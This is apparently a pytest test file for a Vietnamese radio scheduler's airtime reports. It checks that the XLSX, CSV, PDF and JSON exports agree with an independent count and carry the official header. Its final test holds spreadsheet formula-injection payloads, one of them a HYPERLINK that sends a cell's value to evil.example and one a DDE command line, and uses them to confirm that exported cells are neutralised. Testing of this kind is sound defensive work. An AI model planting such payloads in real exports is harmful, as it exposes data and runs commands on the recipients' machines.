"""Report files: every format carries the same figures as an independent count, and the Vietnamese header."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from airtime_fixture import FIRST_DAY, NOW, STATIONS, TZ, Expected, build_world, oracle
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from scheduler.db.models import PlayLog, ProgrammeItem, Station
from scheduler.reports import BY_CHOICES, Period, ReportRequest, build_report
from scheduler.reports.airtime import AirtimeReport
from scheduler.reports.exports import render_report, write_report
from scheduler.reports.exports.charts import all_charts

WEEK = Period.custom(FIRST_DAY, date(2026, 11, 22))
HEADER = ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "UBND TỈNH GIA LAI",
          "BÁO CÁO KẾT QUẢ PHÁT THANH", "NGƯỜI LẬP BIỂU", "THỦ TRƯỞNG ĐƠN VỊ")
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


ReportAndExpected = tuple[AirtimeReport, dict[str, Expected], Expected]


@pytest.fixture
def report_and_expected(sessions: sessionmaker[Session]) -> ReportAndExpected:
    build_world(sessions)
    with sessions() as s:
        report = build_report(s, ReportRequest(WEEK), NOW, TZ)
        expected = oracle(s, *WEEK.utc_bounds(TZ))
    by_station = {k[0]: v for k, v in expected.group(lambda k: (k[0],)).items()}
    return report, by_station, expected.total()


def _numbers(e: Expected) -> tuple[float, ...]:
    ratio = round(e.aired_ms / e.planned_ms * 100, 2)
    return (e.planned_items, e.aired_items, e.missed_items, e.emergency_items,
            round(e.planned_ms / 60000, 2), round(e.aired_ms / 60000, 2), ratio)


FIGURE_HEADINGS = ("Lượt phát theo kế hoạch", "Lượt đã phát", "Lượt bỏ lỡ", "Tin khẩn cấp đã phát",
                   "Thời lượng kế hoạch (phút)", "Thời lượng đã phát (phút)", "Tỷ lệ thời lượng (%)")


def _table_from_rows(rows: list[list[object]]) -> tuple[dict[str, tuple[float, ...]], tuple[float, ...], dict[str, tuple[object, ...]]]:
    """Find the heading row, then read station rows and the total row by heading."""
    head_at = next(i for i, r in enumerate(rows) if "Mã đài" in r)
    heads = [str(h) for h in rows[head_at]]
    idx = {h: heads.index(h) for h in (*FIGURE_HEADINGS, "Mã đài", "Tên đài (cụm loa)", "Số loa", "Vĩ độ",
                                         "Kinh độ", "Xã")}
    stations: dict[str, tuple[float, ...]] = {}
    extra: dict[str, tuple[object, ...]] = {}
    total: tuple[float, ...] = ()
    for row in rows[head_at + 1:]:
        if not any(v not in (None, "") for v in row):
            break
        figures = tuple(float(row[idx[h]]) for h in FIGURE_HEADINGS)  # type: ignore[arg-type]
        if row[idx["Mã đài"]] in (None, ""):
            total = figures
            break
        code = str(row[idx["Mã đài"]])
        stations[code] = figures
        extra[code] = (row[idx["Tên đài (cụm loa)"]], float(row[idx["Số loa"]]),  # type: ignore[arg-type]
                       str(row[idx["Xã"]]), float(row[idx["Vĩ độ"]]), float(row[idx["Kinh độ"]]))  # type: ignore[arg-type]
    return stations, total, extra


def _check_table(stations: dict[str, tuple[float, ...]], total: tuple[float, ...], extra: dict[str, tuple[object, ...]],
                 by_station: dict[str, Expected], expected_total: Expected) -> None:
    assert stations == {code: pytest.approx(_numbers(e)) for code, e in by_station.items()}
    assert total == pytest.approx(_numbers(expected_total))
    for code, name, commune, _area, speakers, lat, lon in STATIONS:
        assert extra[code] == (name, speakers, commune, lat, lon)


def test_xlsx_opened_by_openpyxl_holds_the_expected_figures(report_and_expected: ReportAndExpected, tmp_path: Path) -> None:
    report, by_station, total = report_and_expected
    path = tmp_path / "bao-cao.xlsx"
    write_report(report, "xlsx", path)
    wb = load_workbook(path)
    ws = wb["Báo cáo"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    _check_table(*_table_from_rows(rows), by_station, total)
    text = " ".join(str(v) for r in rows for v in r if v is not None)
    for words in HEADER:
        assert words in text
    assert "Kỳ báo cáo: Từ ngày 16/11/2026 đến ngày 22/11/2026" in text
    assert {"Theo xã", "Theo chủ đề", "Theo ngôn ngữ", "Theo nguồn", "Theo thời gian", "Lượt bỏ lỡ"} <= set(
        wb.sheetnames)
    missed = [r for r in wb["Lượt bỏ lỡ"].iter_rows(min_row=2, values_only=True) if r[0] is not None]
    assert len(missed) == total.missed_items


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_xlsx_read_back_by_libreoffice_holds_the_expected_figures(report_and_expected: ReportAndExpected,
                                                                   tmp_path: Path) -> None:
    report, by_station, total = report_and_expected
    path = tmp_path / "bao-cao.xlsx"
    write_report(report, "xlsx", path)
    # LibreOffice converts the first sheet to CSV (UTF-8, comma) with its own reader.
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    text = (tmp_path / "bao-cao.csv").read_text(encoding="utf-8")
    rows: list[list[object]] = [list(r) for r in csv.reader(io.StringIO(text))]
    _check_table(*_table_from_rows(rows), by_station, total)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text


def test_csv_starts_with_a_bom_and_holds_the_expected_figures(report_and_expected: ReportAndExpected) -> None:
    report, by_station, total = report_and_expected
    data = render_report(report, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows: list[list[object]] = [list(r) for r in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
    assert rows[0][0] == "STT"
    _check_table(*_table_from_rows(rows), by_station, total)
    assert rows[-1][2] == "Tổng cộng"


def test_json_holds_the_expected_figures(report_and_expected: ReportAndExpected) -> None:
    report, by_station, total = report_and_expected
    data = json.loads(render_report(report, "json"))
    got = {r["key"]: (r["planned_items"], r["aired_items"], r["missed_items"], r["emergency_items"],
                      r["planned_minutes"], r["aired_minutes"], round(r["ratio"] * 100, 2)) for r in data["rows"]}
    assert got == {code: pytest.approx(_numbers(e)) for code, e in by_station.items()}
    assert data["totals"]["planned_ms"] == total.planned_ms and data["totals"]["aired_ms"] == total.aired_ms
    assert data["missed_total"] == total.missed_items == len(data["missed"])
    assert data["period"] == {"label": "Từ ngày 16/11/2026 đến ngày 22/11/2026", "first": "2026-11-16",
                              "last": "2026-11-22"}


def test_pdf_text_has_the_vietnamese_header_and_the_totals(report_and_expected: ReportAndExpected, tmp_path: Path) -> None:
    report, _by_station, total = report_and_expected
    path = tmp_path / "bao-cao.pdf"
    write_report(report, "pdf", path)
    reader = PdfReader(path)
    first = reader.pages[0].extract_text()
    for words in HEADER:
        assert words in first
    minutes = f"{total.planned_ms / 60000:,.2f}".translate(str.maketrans(",.", ".,"))
    assert minutes in first  # e.g. 1.053,00 in the total row
    every_page = "\n".join(page.extract_text() for page in reader.pages)
    for code, *_ in STATIONS:
        assert code in every_page
    assert f"Lượt bỏ lỡ và lý do ({total.missed_items} / {total.missed_items} lượt)" in every_page
    fonts: set[str] = set()
    images = 0
    for page in reader.pages:
        resources: Any = page["/Resources"].get_object()
        fonts |= {str(ref.get_object()["/BaseFont"]) for ref in resources.get("/Font", {}).values()}
        images += len(resources.get("/XObject", {}))
    assert any("DejaVu" in f for f in fonts)  # embedded, not a base-14 font without Vietnamese glyphs
    assert images == 3  # the three charts


def test_charts_are_png_images(report_and_expected: ReportAndExpected) -> None:
    report, *_ = report_and_expected
    charts = all_charts(report)
    assert set(charts) == {"topic", "commune", "trend"}
    for png in charts.values():
        assert png.startswith(PNG_MAGIC) and len(png) > 5000


def test_empty_report_still_renders_every_format(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    with sessions() as s:
        report = build_report(s, ReportRequest(WEEK), NOW, TZ)
    for fmt in ("xlsx", "csv", "pdf", "json"):
        assert write_report(report, fmt, tmp_path / f"r.{fmt}") > 0
    assert "Không có lượt nào bị bỏ lỡ" in "\n".join(p.extract_text() for p in PdfReader(tmp_path / "r.pdf").pages)


def test_failed_render_leaves_no_file_behind(report_and_expected: ReportAndExpected, tmp_path: Path) -> None:
    report, *_ = report_and_expected
    target = tmp_path / "bao-cao.docx"
    with pytest.raises(ValueError, match="Định dạng «docx» không hỗ trợ"):
        write_report(report, "docx", target)
    assert list(tmp_path.iterdir()) == []


PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd")


@pytest.mark.parametrize("by", list(BY_CHOICES))
def test_titles_reasons_and_names_from_data_never_become_live_formulas(sessions: sessionmaker[Session],
                                                                      by: str) -> None:
    build_world(sessions)
    title, reason, name = PAYLOADS
    with sessions.begin() as s:
        for play in s.scalars(select(PlayLog).where(PlayLog.result.in_(("skipped", "failed")))):
            play.title, play.reason = title, reason
        for item in s.scalars(select(ProgrammeItem)):
            item.title = title
        for station in s.scalars(select(Station)):
            station.name = name
    with sessions() as s:
        report = build_report(s, ReportRequest(WEEK, by=by), NOW, TZ)
    workbook = load_workbook(io.BytesIO(render_report(report, "xlsx")))
    texts = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"] == []
    assert title in texts and reason in texts  # kept whole, as text, in «Lượt bỏ lỡ»
    if by == "station":
        assert name in texts
    rows = list(csv.reader(io.StringIO(render_report(report, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    if by == "station":
        assert "'" + name in cells
